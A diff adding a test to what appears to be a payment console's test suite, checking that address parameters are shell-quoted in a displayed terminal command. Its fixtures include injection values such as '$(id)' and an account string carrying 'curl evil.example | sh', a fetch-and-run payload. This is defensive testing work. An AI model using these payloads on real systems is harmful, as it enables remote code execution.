@@ -422,6 +422,24 @@ test('200 no text of a merchant, a customer or an operator becomes markup on any
   expect(shown).toBeGreaterThan(fixed.length)
 })
 
+test('200 no text in an address becomes a command of its own in the line for a terminal', async () => {
+  const { merchantId } = await gateway.gateway.merchants.create('A shop to be compared')
+  const shop = `/console/m/${merchantId}`
+  await owner.post(`${shop}/providers/new`, { connector: 'simulator', name: 'Main', others: '' })
+  const account = "acc'; curl evil.example | sh #"
+  const addresses = [
+    [`/console/audit?act=${encodeURIComponent('$(id)')}`, "audit list --act '$(id)'\n"],
+    [`/console/audit?act=${encodeURIComponent('a\nb')}`, "audit list --act 'a\nb'\n"],
+    ['/console/audit?act=key.create', 'audit list --act key.create\n'],
+    [
+      `${shop}/reconciliation?account=${encodeURIComponent(account)}&from=2026-11-01&to=$PATH`,
+      "reconcile --account 'acc'\\''; curl evil.example | sh #' --from 2026-11-01 --to '$PATH'<",
+    ],
+  ] as const
+  for (const [address, command] of addresses)
+    expect(await read(address)).toContain(`tollgate -- ${command.replaceAll("'", '&#39;')}`)
+})
+
 test('404 ids that the merchant does not have', async () => {
   for (const path of ['/payments/x', '/links/x', '/plans/x', '/disputes/x', '/events/x', '/customers/x'])
     expect((await owner.get(at(path))).status).toBe(404)
